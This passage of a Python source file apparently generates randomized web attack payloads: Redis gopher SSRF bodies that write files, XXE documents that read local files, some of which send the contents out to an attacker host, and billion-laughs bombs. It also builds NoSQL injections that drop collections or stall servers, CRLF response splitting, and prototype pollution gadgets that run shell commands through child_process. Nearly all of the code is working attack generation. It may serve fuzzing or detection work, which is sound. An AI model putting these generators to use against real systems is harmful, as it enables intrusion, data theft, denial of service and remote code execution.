        body = (_resp(["flushall"]) + _resp(["set", key, content]) + _resp(["config", "set", "dir", directory])
                + _resp(["config", "set", "dbfilename", filename]) + _resp(["save"]))
    else:
        body = "%0d%0a".join((f"SET%20{key}%20%22{encoded}%22", f"CONFIG%20SET%20dir%20{directory}",
                              f"CONFIG%20SET%20dbfilename%20{filename}", "SAVE", "QUIT")) + "%0d%0a"
    return f"gopher://{host}:6379/_{body}"


_def("redis_gopher", _redis_gopher)
_def("hexip", lambda rng: "%08x" % rng.choice((0x7F000001, 0xA9FEA9FE, rng.getrandbits(32), 0x0A000001, 0xC0A80001)))
_def("ipdash", lambda rng: _pub_ip(rng).replace(".", "-"))
_def("oobdom", lambda rng: rng.choice(_OOB))


# ---------------------------------------------------------------------------------------------
# XML external entities
# ---------------------------------------------------------------------------------------------

_XML_NAMES = _DATA.words("xml-external-entities", "xml_names")
_XML_LEAVES = _DATA.words("xml-external-entities", "xml_leaves")
_XML_ENTITIES = _DATA.words("xml-external-entities", "xml_entities")


class _Xml:
    """Formatting choices of one XML document."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.nl = rng.choice(("", "", "\n", "\n", " ", "\r\n"))
        self.ind = rng.choice(("", "  ", "\t", "    ")) if self.nl in ("\n", "\r\n") else ""
        self.q = rng.choice(('"', '"', '"', "'"))
        self.root = rng.choice(_XML_NAMES)
        self.ent = rng.choice(_XML_ENTITIES) if rng.random() < 0.8 else _letters(rng, 2, 6)

    def decl(self) -> str:
        r = self.rng.random()
        if r < 0.25:
            return ""
        q = self.q
        forms = (f"<?xml version={q}1.0{q}?>", f"<?xml version={q}1.0{q} encoding={q}UTF-8{q}?>",
                 f"<?xml version={q}1.0{q} encoding={q}ISO-8859-1{q}?>", f"<?xml version={q}1.0{q} standalone={q}no{q}?>",
                 f"<?xml version={q}1.0{q} encoding={q}utf-8{q} standalone={q}yes{q}?>", f"<?xml version={q}1.0{q} encoding={q}UTF-16{q}?>",
                 f"<?xml version={q}1.1{q}?>", f"<?xml version={q}1.0{q} encoding={q}UTF-7{q}?>")
        return self.rng.choice(forms) + self.nl

    def body(self, inner: str, root: str | None = None) -> str:
        """The root element with a few ordinary leaves around the one that carries `inner`."""
        rng, nl, ind = self.rng, self.nl, self.ind
        root = root or self.root
        leaves = rng.sample(_XML_LEAVES, rng.randint(1, 3))
        carrier = rng.randrange(len(leaves))
        lines = []
        for i, leaf in enumerate(leaves):
            text = inner if i == carrier else rng.choice((_word(rng), str(rng.randint(1, 9999)), f"{_word(rng)}@{_trusted(rng)}"))
            lines.append(f"{ind}<{leaf}>{text}</{leaf}>")
        if rng.random() < 0.25:
            return f"<{root}>{inner}</{root}>"
        return f"<{root}>{nl}" + nl.join(lines) + f"{nl}</{root}>"

    def entity(self, name: str, uri: str, param: bool = False) -> str:
        q = self.q if self.q not in uri else ('"' if self.q == "'" else "'")
        pct = "% " if param else ""
        if not param and self.rng.random() < 0.12:
            return f"<!ENTITY {name} PUBLIC {q}-//{self.rng.choice(('W3C', 'OASIS', _word(self.rng).upper()))}//TEXT {_word(self.rng)}//EN{q} {q}{uri}{q}>"
        return f"<!ENTITY {pct}{name} SYSTEM {q}{uri}{q}>"


def _xxe_classic(rng: random.Random) -> str:
    x = _Xml(rng)
    ents = [x.entity(x.ent, _s("xxe_uri", rng))]
    if rng.random() < 0.2:
        ents.insert(0, f"<!ELEMENT {x.root} ANY>")
    refs = f"&{x.ent};"
    if rng.random() < 0.15:
        second = x.ent + str(rng.randint(2, 9))
        ents.append(x.entity(second, _s("xxe_uri", rng)))
        refs += f"&{second};"
    dt = f"<!DOCTYPE {x.root} [{x.nl}" + x.nl.join(x.ind + e for e in ents) + f"{x.nl}]>{x.nl}"
    return x.decl() + dt + x.body(refs)


def _xxe_param(rng: random.Random) -> str:
    x = _Xml(rng)
    p1, p2, p3 = rng.sample(_XML_ENTITIES, 3)
    kind = rng.randrange(5)
    host, q = _host(rng), x.q
    if kind == 0:
        inner = x.entity(p1, _s("xxe_remote", rng), param=True) + f"{x.nl}%{p1};"
    elif kind == 1:
        other = "'" if q == '"' else '"'
        exfil = rng.choice((f"http://{host}/?{_word(rng)}=%{p1};", f"ftp://{host}:{_s('port', rng)}/%{p1};",
                            f"http://{host}/%{p1};", f"http://{_pub_ip(rng)}:{_s('port', rng)}/?d=%{p1};"))
        inner = (x.entity(p1, _s("xxe_uri", rng), param=True) + x.nl
                 + f"<!ENTITY % {p2} {q}<!ENTITY &#x25; {p3} SYSTEM {other}{exfil}{other}>{q}>" + x.nl + f"%{p2};%{p3};")
    elif kind == 2:
        other = "'" if q == '"' else '"'
        inner = (x.entity(p1, "file:///" + _s("unix_file", rng), param=True) + x.nl
                 + f"<!ENTITY % {p2} {q}<!ENTITY &#x25; {p3} SYSTEM {other}file:///{_word(rng)}/%{p1};{other}>{q}>" + x.nl
                 + f"%{p2};%{p3};")
    elif kind == 3:
        inner = (f"<!ENTITY % {p1} SYSTEM {q}file://{_s('local_dtd', rng)}{q}>" + x.nl
                 + f"<!ENTITY % {rng.choice(('ISOamso', 'constant', 'expr', 'condition', 'custom_entity', 'ISOamsa'))} "
                 + f"'<!ENTITY &#x25; {p2} SYSTEM \"file:///{_s('unix_file', rng)}\"><!ENTITY &#x25; {p3} \"<!ENTITY &#x26;#x25; e SYSTEM &#x27;file:///x/&#x25;{p2};&#x27;>\">&#x25;{p3};&#x25;e;'>"
                 + x.nl + f"%{p1};")
    else:
        inner = (f"<!ENTITY % start {q}<![CDATA[{q}>" + x.nl + x.entity(p1, "file:///" + _s("unix_file", rng), param=True) + x.nl
                 + f"<!ENTITY % end {q}]]>{q}>" + x.nl + x.entity(p2, _s("xxe_remote", rng), param=True) + x.nl + f"%{p2};")
    body = x.body(f"&{rng.choice((p3, 'all', 'e', x.ent))};") if rng.random() < 0.5 else f"<{x.root}>{_word(rng)}</{x.root}>"
    return x.decl() + f"<!DOCTYPE {x.root} [{x.nl}{inner}{x.nl}]>{x.nl}" + body


def _xxe_bomb(rng: random.Random) -> str:
    x = _Xml(rng)
    prefix = rng.choice(("lol", "a", "x", "ha", "boom", "e", "z", "b", _letters(rng, 1, 3)))
    depth, fan = rng.randint(3, 9), rng.randint(3, 10)
    if rng.random() < 0.25:  # quadratic blowup: one big entity referenced many times
        big = _word(rng) * rng.randint(20, 120)
        refs = f"&{prefix};" * rng.randint(20, 150)
        return (x.decl() + f"<!DOCTYPE {x.root} [<!ENTITY {prefix} \"{big[:1500]}\">]>{x.nl}<{x.root}>{refs}</{x.root}>")[:MAX_CHARS]
    ents = [f"<!ENTITY {prefix}0 \"{rng.choice((prefix, _word(rng), 'lol', 'ha'))}\">"]
    for level in range(1, depth + 1):
        ents.append(f"<!ENTITY {prefix}{level} \"" + f"&{prefix}{level - 1};" * fan + "\">")
    if rng.random() < 0.3:
        ents.insert(0, f"<!ELEMENT {x.root} (#PCDATA)>")
    return x.decl() + f"<!DOCTYPE {x.root} [{x.nl}" + x.nl.join(x.ind + e for e in ents) + f"{x.nl}]>{x.nl}<{x.root}>&{prefix}{depth};</{x.root}>"


def _xxe_xinclude(rng: random.Random) -> str:
    x = _Xml(rng)
    ns = rng.choice(("xi", "xi", "x", "inc", "xinclude"))
    parse = rng.choice((' parse="text"', ' parse="text"', " parse='text'", "", ' parse="xml"'))
    inc = f"<{ns}:include xmlns:{ns}=\"http://www.w3.org/2001/XInclude\"{parse} href=\"{_s('xxe_uri', rng)}\"/>"
    if rng.random() < 0.5:
        return inc
    return x.decl() + x.body(inc)


def _xxe_svg(rng: random.Random) -> str:
    x = _Xml(rng)
    w, h = rng.randint(10, 800), rng.randint(10, 800)
    head = f"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"{w}\" height=\"{h}\" version=\"1.1\">"
    kind = rng.randrange(3)
    if kind == 0:
        return (x.decl() + f"<!DOCTYPE svg [{x.entity(x.ent, _s('xxe_uri', rng))}]>{x.nl}" + head
                + f"<text font-size=\"{rng.randint(8, 40)}\" x=\"0\" y=\"{rng.randint(10, 60)}\">&{x.ent};</text></svg>")
    if kind == 1:
        return x.decl() + head + f"<image xlink:href=\"{_s('xxe_uri', rng)}\" width=\"{w}\" height=\"{h}\"/></svg>"
    return (x.decl() + head + "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\""
            + _s("xxe_uri", rng) + "\"/></svg>")


def _xxe_office(rng: random.Random) -> str:
    x = _Xml(rng)
    uri = _s("xxe_uri", rng) if rng.random() < 0.6 else _s("xxe_remote", rng)
    param = rng.random() < 0.3
    ent = x.entity(x.ent, uri, param=param)
    ref = f"%{x.ent};" if param else ""
    use = "" if param else f"&{x.ent};"
    kind = rng.randrange(3)
    decl = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    if kind == 0:
        return (decl + f"<!DOCTYPE w:document [{ent}{ref}]>" + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
                + f"<w:body><w:p><w:r><w:t>{use or _word(rng)}</w:t></w:r></w:p></w:body></w:document>")
    if kind == 1:
        return (decl + f"<!DOCTYPE sst [{ent}{ref}]>" + "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" count=\"1\" uniqueCount=\"1\">"
                + f"<si><t>{use or _word(rng)}</t></si></sst>")
    return (decl + f"<!DOCTYPE Types [{ent}{ref}]>" + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
            + f"<Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/{use or 'word/document.xml'}\" ContentType=\"text/plain\"/></Types>")


def _xxe_soap(rng: random.Random) -> str:
    x = _Xml(rng)
    ns = rng.choice(("http://schemas.xmlsoap.org/soap/envelope/", "http://www.w3.org/2003/05/soap-envelope"))
    pre = rng.choice(("soap", "soapenv", "SOAP-ENV", "s", "env"))
    op = rng.choice(("GetUser", "getProduct", "Login", "SearchRequest", "UpdateProfile", "GetOrderStatus", "getBalance",
                     "CheckStock", "ProcessPayment", "authenticate")) + rng.choice(("", "", "Request"))
    param = rng.choice(_XML_LEAVES)
    dt = f"<!DOCTYPE {pre}:Envelope [{x.entity(x.ent, _s('xxe_uri', rng))}]>"
    return (x.decl() + dt + x.nl + f"<{pre}:Envelope xmlns:{pre}=\"{ns}\">{x.nl}<{pre}:Header/>{x.nl}<{pre}:Body>{x.nl}"
            + f"<{op} xmlns=\"http://{_trusted(rng)}/ws\"><{param}>&{x.ent};</{param}></{op}>{x.nl}</{pre}:Body>{x.nl}</{pre}:Envelope>")


def _xxe_feed(rng: random.Random) -> str:
    x = _Xml(rng)
    dt = f"<!DOCTYPE rss [{x.entity(x.ent, _s('xxe_uri', rng))}]>"
    if rng.random() < 0.5:
        return (x.decl() + dt + f"<rss version=\"2.0\"><channel><title>{_word(rng)}</title><item><title>&{x.ent};</title>"
                + f"<link>https://{_trusted(rng)}/</link></item></channel></rss>")
    return (x.decl() + dt.replace("rss", "feed") + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>"
            + f"&{x.ent};</title><id>urn:uuid:{_s('uuid', rng)}</id></entry></feed>")


def _xxe_fragment(rng: random.Random) -> str:
    x = _Xml(rng)
    kind = rng.randrange(6)
    if kind == 0:
        return f"<!DOCTYPE {x.root} [{x.entity(x.ent, _s('xxe_uri', rng))}]>"
    if kind == 1:
        return x.entity(x.ent, _s("xxe_uri", rng))
    if kind == 2:
        return f"<!DOCTYPE {x.root} SYSTEM \"{_s('xxe_remote', rng)}\">"
    if kind == 3:
        return x.decl() + f"<!DOCTYPE {x.root} SYSTEM \"{_s('xxe_remote', rng)}\">{x.nl}" + x.body(f"&{x.ent};")
    if kind == 4:
        return (x.decl() + f"<!DOCTYPE {x.root} PUBLIC \"-//{_word(rng).upper()}//DTD {_word(rng)}//EN\" \"{_s('xxe_remote', rng)}\">"
                + x.nl + x.body(_word(rng)))
    return f"<!DOCTYPE {x.root} [<!ENTITY % {x.ent} SYSTEM \"{_s('xxe_remote', rng)}\"> %{x.ent};]>"


def _xxe(rng: random.Random) -> str:
    kind = rng.choices((_xxe_classic, _xxe_param, _xxe_bomb, _xxe_xinclude, _xxe_svg, _xxe_office, _xxe_soap, _xxe_feed,
                        _xxe_fragment), weights=(30, 18, 7, 7, 7, 6, 8, 4, 10))[0]
    return kind(rng)


_def("xxe", _xxe)


# ---------------------------------------------------------------------------------------------
# NoSQL (MongoDB-style operator) injection
# ---------------------------------------------------------------------------------------------

_NOSQL_FIELDS = _DATA.words("nosql-injection", "nosql_fields")
_NOSQL_PW_FIELDS = _DATA.words("nosql-injection", "nosql_pw_fields")


def _nosql_value(rng: random.Random):
    return rng.choice((None, "", 1, -1, _word(rng), False, True, 0, "x", [], "a", rng.randint(1, 999)))


def _nosql_regex(rng: random.Random) -> str:
    return rng.choice(("^a", ".*", f"^{_word(rng)}", f"^{_s('letter', rng)}.*", f"^.{{{rng.randint(1, 12)}}}$", f"{_word(rng)}.*",
                       "^", ".+", f"^{_s('letter', rng)}{_s('letter', rng)}", "[a-z]*", f"^(?=.*{_s('letter', rng)})",
                       f"(.*){{{rng.randint(10, 40)}}}x", "^.*$", f"^{_s('user', rng)}$"))


def _nosql_js(rng: random.Random) -> str:
    f, pw = rng.choice(_NOSQL_FIELDS), rng.choice(_NOSQL_PW_FIELDS)
    ms = rng.choice((1000, 2000, 3000, 5000, 10000, rng.randint(100, 9999)))
    return rng.choice((
        f"sleep({ms})", f"sleep({ms}) || true", f"this.{f} == '{_word(rng)}'", f"this.{pw}.match(/^{_s('letter', rng)}/)",
        "function(){return true;}", "return true", "1 == 1", f"this.{pw}.length > {rng.randint(1, 30)}",
        f"Object.keys(this)[{rng.randint(0, 5)}].match('^{_s('letter', rng)}')", "true", f"this.{f} != null",
        f"this.{pw}[{rng.randint(0, 15)}] == '{_s('letter', rng)}'", f"function(){{var d=new Date();do{{var c=new Date();}}while(c-d<{ms});return true;}}",
        "obj.credits - obj.debits < 0", f"this.{f}.indexOf('{_s('letter', rng)}') == 0", f"tojson(this).match(/{_word(rng)}/)",
        "db.getCollectionNames().length > 0", f"this.{f} == this.{f}", "while(true){}"))


def _nosql_clause(rng: random.Random):
    op = rng.choices(("$ne", "$gt", "$gte", "$lt", "$regex", "$exists", "$in", "$nin", "$not", "$where", "$eq", "$type",
                      "$elemMatch", "$size", "$all", "$expr", "$mod"),
                     weights=(14, 8, 3, 3, 8, 4, 4, 3, 2, 3, 1, 1, 1, 1, 1, 1, 1))[0]
    if op == "$ne":
        return {op: _nosql_value(rng)}
    if op in ("$gt", "$gte"):
        return {op: rng.choice(("", None, 0, "a", -1, " "))}
    if op == "$lt":
        return {op: rng.choice(("~", "z", "\uffff", 99999999))}
    if op == "$regex":
        clause = {op: _nosql_regex(rng)}
        if rng.random() < 0.3:
            clause["$options"] = rng.choice(("i", "si", "m"))
        return clause
    if op == "$exists":
        return {op: rng.choice((True, True, False, 1))}
    if op in ("$in", "$nin", "$all"):
        return {op: rng.sample(("admin", "root", "administrator", "user", _word(rng), _word(rng), "", "superuser"), rng.randint(1, 4))}
    if op == "$not":
        return {op: rng.choice(({"$eq": _word(rng)}, {"$regex": _nosql_regex(rng)}, {"$size": 0}))}
    if op == "$where":
        return {op: _nosql_js(rng)}
    if op == "$eq":
        return {op: _s("user", rng)}
    if op == "$type":
        return {op: rng.choice((2, "string", 1, "object"))}
    if op == "$elemMatch":
        return {op: {rng.choice(_NOSQL_FIELDS): {"$ne": None}}}
    if op == "$size":
        return {op: rng.randint(0, 5)}
    if op == "$mod":
        return {op: [rng.randint(1, 9), 0]}
    return {op: {rng.choice(("$gt", "$eq", "$ne")): [f"${rng.choice(_NOSQL_FIELDS)}", rng.choice((0, "", None))]}}


class _JsonStyle:
    def __init__(self, rng: random.Random, js_keys: bool = False) -> None:
        self.colon = rng.choice((":", ": ", ": ", " : "))
        self.comma = rng.choice((",", ", ", ", "))
        self.pad = rng.choice(("", "", " "))
        self.js = js_keys  # Mongo-shell style: unquoted keys, single-quoted strings
        self.rng = rng

    def dump(self, value) -> str:
        if isinstance(value, dict):
            items = [self.key(k) + self.colon + self.dump(v) for k, v in value.items()]
            return "{" + self.pad + self.comma.join(items) + self.pad + "}"
        if isinstance(value, list):
            return "[" + self.comma.join(self.dump(v) for v in value) + "]"
        if isinstance(value, str) and self.js:
            return "'" + value.replace("\\", "\\\\").replace("'", "\\'") + "'"
        return json.dumps(value, ensure_ascii=False)

    def key(self, key: str) -> str:
        if self.js and re.fullmatch(r"[$A-Za-z_][\w$]*", key):
            return key
        return json.dumps(key)


def _nosql_json(rng: random.Random) -> str:
    style = _JsonStyle(rng, js_keys=rng.random() < 0.12)
    kind = rng.randrange(8)
    if kind <= 2:
        doc = _nosql_clause(rng)
    elif kind <= 4:
        f1 = rng.choice(("username", "user", "login", "email", "name"))
        doc = {f1: rng.choice((_nosql_clause(rng), _s("user", rng))), rng.choice(_NOSQL_PW_FIELDS): _nosql_clause(rng)}
    elif kind == 5:
        doc = {"$or": [{rng.choice(_NOSQL_FIELDS): _nosql_clause(rng)}, {rng.choice(_NOSQL_FIELDS): _nosql_clause(rng)}]}
    elif kind == 6:
        doc = {rng.choice(_NOSQL_FIELDS): _s("user", rng), "$where": _nosql_js(rng)}
    else:
        doc = {rng.choice(_NOSQL_FIELDS): _nosql_clause(rng)}
        if rng.random() < 0.5:
            doc[rng.choice(_NOSQL_FIELDS)] = _nosql_clause(rng)
    return style.dump(doc)


def _nosql_param(rng: random.Random) -> str:
    def one() -> str:
        field = rng.choice(_NOSQL_FIELDS)
        dollar = "%24" if rng.random() < 0.08 else "$"
        kind = rng.randrange(11)
        if kind <= 3:
            return f"{field}[{dollar}ne]={rng.choice(('', '1', 'x', _word(rng), 'null', 'admin', '0'))}"
        if kind == 4:
            return f"{field}[{dollar}gt]=" + rng.choice(("", " ", "0", "a"))
        if kind == 5:
            return f"{field}[{dollar}regex]={_nosql_regex(rng)}"
        if kind == 6:
            return f"{field}[{dollar}exists]=" + rng.choice(("true", "1", "false"))
        if kind == 7:
            vals = rng.sample(("admin", "root", "administrator", _word(rng), "user"), rng.randint(1, 3))
            return "&".join(f"{field}[{dollar}in][]={v}" for v in vals)
        if kind == 8:
            return f"{field}[{dollar}where]={_nosql_js(rng)}"
        if kind == 9:
            return f"{field}[{dollar}nin][{rng.randint(0, 2)}]={_word(rng)}"
        return f"{rng.choice(('filter', 'where', 'query', 'q', 'search'))}[{field}][{dollar}ne]=" + rng.choice(("null", "", "1"))
    parts = [one() for _ in range(rng.choice((1, 1, 1, 2, 2, 3)))]
    if rng.random() < 0.08:
        parts = [f"[$ne]={rng.choice(('1', '', 'x'))}"]
    return "&".join(parts)


def _nosql_inject(rng: random.Random) -> str:
    f, pw, v = rng.choice(_NOSQL_FIELDS), rng.choice(_NOSQL_PW_FIELDS), _letters(rng, 1, 4)
    ms, w, c = rng.choice((1000, 2000, 5000, 10000, rng.randint(100, 9999))), _word(rng), _s("letter", rng)
    k = rng.choice(("1", "1", str(rng.randint(0, 99)), "'" + c + "'"))
    coll = rng.choice(("users", "accounts", "sessions", "admin", w))
    return rng.choice((
        f"';return true;var {v}='", f"';return(true);var {v}='", f'" || "{k}"=="{k}', f"' || '{w}'=='{w}", f"' || {k}=={k}//",
        f"' || {k}=={k}%00", f"'; while(true){{}}; var {v}='", f"'; sleep({ms}); var {v}='", f"1;sleep({ms})", f"';sleep({ms});'",
        f"this.{pw}.match(/^{c}.*$/)", f"' && this.{pw}.match(/^{c}/)//", f"'||this.{pw}.length>{rng.randint(1, 30)}||'",
        f"function(){{return this.{f}=='{w}'}}", f"0;var d=new Date();do{{var c=new Date();}}while(c-d<{ms})",
        f"'; db.{coll}.drop(); var {v}='", rng.choice(("db.getCollectionNames()", f"db.{coll}.find()", f"db.{coll}.count()",
                                                       f"db.{coll}.findOne()", "db.version()", f"db.{coll}.remove({{}})")),
        f"'; return db.{rng.choice(('users', 'accounts'))}.find(); var {v}='", f"'||Object.keys(this)[{rng.randint(0, 5)}].match(/^{c}/)||'",
        f"' && this.{pw}[{rng.randint(0, 15)}]=='{c}", f"true, $where: '{k} == {k}'", f", $where: '{k} == {k}'", f"$where: 'sleep({ms})'",
        f"1';return this.{f}!=null;var {v}='", f'" && this.{pw}.match(/.*/)//+%00', "'||(function(){return true})()||'",
        f"'||(function(){{var d=new Date();while(new Date()-d<{ms});return true}})()||'", f"{w}' || 'a'=='a", f"{w}'||1||'",
        f"'; emit(this.{pw},1); var {v}='", "';process.exit();'", "{$gt: ''}", f"{{$ne: {rng.choice(('1', 'null', repr(w)))}}}",
        f"{w}'%00", "admin' && this.password!='", f"{{\"$where\": \"sleep({ms})\"}}", f"' || this.{f}.startsWith('{c}') || '"))


def _nosql_agg(rng: random.Random) -> str:
    style = _JsonStyle(rng)
    f, coll = rng.choice(_NOSQL_FIELDS), rng.choice(("users", "accounts", "admin", "sessions", "secrets", "system.users", _word(rng)))
    kind = rng.randrange(7)
    if kind == 0:
        doc = [{"$lookup": {"from": coll, "localField": f, "foreignField": f, "as": _word(rng)}}]
    elif kind == 1:
        doc = [{"$match": {f: {"$ne": None}}}, {"$project": {rng.choice(_NOSQL_PW_FIELDS): 1}}]
    elif kind == 2:
        doc = [{"$unionWith": coll}]
    elif kind == 3:
        doc = {"selector": {"_id": {"$gt": None}}}
    elif kind == 4:
        doc = {"$expr": {"$function": {"body": f"function() {{ {rng.choice(('sleep(' + str(rng.randint(500, 9000)) + ');', 'return true;', 'while(true){}'))} return true; }}", "args": [], "lang": "js"}}}
    elif kind == 5:
        doc = [{"$out": coll}]
    else:
        doc = {"$where": _nosql_js(rng)}
    return style.dump(doc)


_def("n_json", _nosql_json)
_def("n_param", _nosql_param)
_def("n_js", _nosql_inject)
_def("n_agg", _nosql_agg)


# ---------------------------------------------------------------------------------------------
# LDAP filter injection
# ---------------------------------------------------------------------------------------------



# ---------------------------------------------------------------------------------------------
# CRLF injection / HTTP response splitting
# ---------------------------------------------------------------------------------------------

_CRLF_NEWLINES = _Pick(_DATA.entries("crlf-injection-http-response-splitting", "crlf_newlines"))
_def("logdate", lambda rng: f"20{rng.randint(18, 26)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d} "
                            f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}")


def _crlf(rng: random.Random) -> str:
    nl = _CRLF_NEWLINES(rng)
    encoded = "%" in nl
    prefix = _s("crlf_prefix", rng)

    def header() -> str:
        text = _s("crlf_header", rng)
        r = rng.random()
        if r < 0.15:
            name, _, rest = text.partition(":")
            text = name.lower() + ":" + rest
        elif r < 0.2:
            name, _, rest = text.partition(":")
            text = name.upper() + ":" + rest
        if encoded and rng.random() < 0.4:
            text = text.replace(" ", "%20")
            if rng.random() < 0.3:
                text = text.replace(":", "%3a", 1)
        return text

    kind = rng.choices(range(5), weights=(14, 4, 3, 2, 1))[0]
    if kind == 0:
        return prefix + nl + nl.join(header() for _ in range(rng.choice((1, 1, 1, 2, 2, 3))))
    if kind == 1:
        html = _s("crlf_html", rng)
        return (prefix + nl + "Content-Length: 0" + nl + nl + "HTTP/1.1 200 OK" + nl + "Content-Type: text/html" + nl
                + f"Content-Length: {len(html)}" + nl + nl + html)
    if kind == 2:
        extra = (header() + nl) if rng.random() < 0.4 else ""
        return prefix + nl + extra + nl + _s("crlf_html", rng)
    if kind == 3:
        return prefix + nl + _s("crlf_log", rng)
    return (prefix + " HTTP/1.1" + nl + "Host: " + _s("trusted", rng) + nl + nl + "GET /" + rng.choice(("admin", "internal", _word(rng)))
            + " HTTP/1.1" + nl + "Host: " + rng.choice(("localhost", "127.0.0.1", _host(rng))) + nl + nl)


_def("crlf", _crlf)


# ---------------------------------------------------------------------------------------------
# XPath injection
# ---------------------------------------------------------------------------------------------



# ---------------------------------------------------------------------------------------------
# Open redirect
# ---------------------------------------------------------------------------------------------

_def("ipdec", lambda rng: _ip_form(rng, tuple(int(o) for o in _pub_ip(rng).split(".")), weird=1.0))
_def("b64redir", lambda rng: _b64(f"<script>location='https://{_evil_domain(rng)}'</script>"))


# ---------------------------------------------------------------------------------------------
# Prototype pollution
# ---------------------------------------------------------------------------------------------

_PP_GADGETS = (
    ("isAdmin", "true"), ("admin", "true"), ("role", "admin"), ("polluted", "yes"), ("status", "510"), ("json spaces", "10"),
    ("exposedHeaders", "§w§"), ("innerHTML", "<img src=x onerror=alert(§n§)>"), ("srcdoc", "<script>alert(§n§)</script>"),
    ("src", "data:,alert(§n§)//"), ("transport_url", "data:,alert(§n§)//"), ("sourceURL", "\\u000aalert(§n§)//"),
    ("outputFunctionName", "x;process.mainModule.require('child_process').execSync('§cmdq§');x"),
    ("escapeFunction", "JSON.stringify; process.mainModule.require('child_process').exec('§cmdq§')"), ("client", "1"),
    ("shell", "node"), ("NODE_OPTIONS", "--require /proc/self/environ"), ("argv0", "console.log(require('child_process').execSync('§cmdq§').toString())//"),
    ("execArgv", "--eval=require('child_process').execSync('§cmdq§')"), ("allowedTags", "§w§"), ("hidden", "false"),
    ("disabled", "false"), ("debug", "true"), ("cache", "false"), ("href", "javascript:alert(§n§)"), ("onload", "alert(§n§)"),
    ("nonce", "§rand§"), ("template", "<img src onerror=alert(§n§)>"), ("toString", "§w§"), ("valueOf", "§n§"),
    ("__defineGetter__", "§w§"), ("line", "process.mainModule.require('child_process').execSync('§cmdq§')"),
    ("type", "Program"), ("body", "§w§"), ("headers", "§w§"), ("path", "/§unix_file§"), ("env", "§w§"),
    ("contentType", "text/html"), ("content-type", "application/json; charset=utf-7"), ("tabindex", "1"), ("x", "§w§"),
    ("§w§", "§w§"), ("canDelete", "true"), ("verified", "true"), ("permissions", "*"), ("preventDefault", "x"),
    ("jsonp", "alert(§n§)//"), ("url", "//§evil§/§w§.js"), ("baseURL", "https://§evil§"), ("proxy", "http://§evil§"))


def _pp(rng: random.Random) -> str:
    prop, val = rng.choice(_PP_GADGETS)
    prop, val = _fill(prop, rng), _fill(val, rng)
    kind = rng.choices(("query", "json", "hash"), weights=(11, 8, 2))[0]
    if kind in ("query", "hash"):
        obj = rng.choice(("a", "user", "config", "options", "settings", "data", "q", "filter", "x", _word(rng)))
        enc = rng.random() < 0.15
        path = rng.choices((
            f"__proto__[{prop}]", f"__proto__.{prop}", f"constructor[prototype][{prop}]", f"constructor.prototype.{prop}",
            f"{obj}[__proto__][{prop}]", f"{obj}.__proto__.{prop}", f"{obj}[constructor][prototype][{prop}]", f"__proto__[{prop}][]",
            f"__proto__[{prop}][{_word(rng)}]", f"[__proto__][{prop}]", f"__pro__proto__to__[{prop}]", f"__proto__[__proto__][{prop}]",
            f"{obj}[0][__proto__][{prop}]", f"constructor[prototype][{prop}][]"),
            weights=(14, 6, 6, 3, 4, 2, 2, 2, 2, 1, 1, 1, 1, 1))[0]
        if enc:
            path = path.replace("[", "%5B").replace("]", "%5D")
        out = f"{path}={val}"
        if rng.random() < 0.2:
            prop2, val2 = rng.choice(_PP_GADGETS)
            out += f"&__proto__[{_fill(prop2, rng)}]={_fill(val2, rng)}"
        return ("#" if kind == "hash" else rng.choice(("", "", "", "?"))) + out
    style = _JsonStyle(rng)
    leaf = {prop: (True if val == "true" else False if val == "false" else int(val) if val.isdigit() else val)}
    if rng.random() < 0.1:
        leaf = {prop: {_word(rng): leaf[prop]}}
    form = rng.choices(range(8), weights=(12, 6, 4, 3, 2, 2, 2, 1))[0]
    if form == 0:
        doc = {"__proto__": leaf}
    elif form == 1:
        doc = {"constructor": {"prototype": leaf}}
    elif form == 2:
        doc = {rng.choice(("user", "profile", "settings", "data", "config")): {"name": _word(rng), "__proto__": leaf}}
    elif form == 3:
        doc = {_word(rng): {"__proto__": leaf}}
    elif form == 4:
        doc = [{"__proto__": leaf}]
    elif form == 5:
        doc = {f"__proto__.{prop}": leaf[prop]}
    elif form == 6:
        return style.dump({"__proto__": leaf}).replace('"__proto__"', '"\\u005f\\u005fproto\\u005f\\u005f"', 1)
    else:
        doc = {"__proto__": {"__proto__": leaf}}
    return style.dump(doc)


_def("prototype-pollution", _pp)


# ---------------------------------------------------------------------------------------------
# Server-side (and edge-side) includes
# ---------------------------------------------------------------------------------------------



# ---------------------------------------------------------------------------------------------
# Evasions
# ---------------------------------------------------------------------------------------------

_UNRESERVED = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~")


def _pct(ch: str, upper: bool) -> str:
    fmt = "%%%02X" if upper else "%%%02x"
    return "".join(fmt % b for b in ch.encode("utf-8"))


def _ev_url(value: str, rng: random.Random, mode: str | None = None) -> str:
    """Percent-encode the special characters, a random share, or all of them; sometimes twice, or IIS %u."""
    mode = mode or rng.choices(("special", "some", "all", "double", "iis"), weights=(10, 6, 2, 4, 1))[0]
    upper = rng.random() < 0.7
    if mode == "iis":
        return "".join(f"%u{ord(ch):04x}" if ch not in _UNRESERVED and ord(ch) < 0x10000 else ch for ch in value)
    if mode == "all":
        return "".join(_pct(ch, upper) for ch in value)
    if mode == "some":
        p = rng.uniform(0.2, 0.6)
        out = [_pct(ch, upper) if (ch not in _UNRESERVED or rng.random() < p * 0.5) and rng.random() < p + 0.3 else ch
               for ch in value]
        text = "".join(out)
        return text if text != value else _ev_url(value, rng, "special")
    text = "".join(ch if ch in _UNRESERVED else _pct(ch, upper) for ch in value)
    if mode == "double" and "%25" not in value:
        text = text.replace("%", "%25")
    return text


_NAMED = {"<": ("&lt;", "&lt"), ">": ("&gt;", "&gt"), '"': ("&quot;",), "'": ("&apos;",), "&": ("&amp;",),
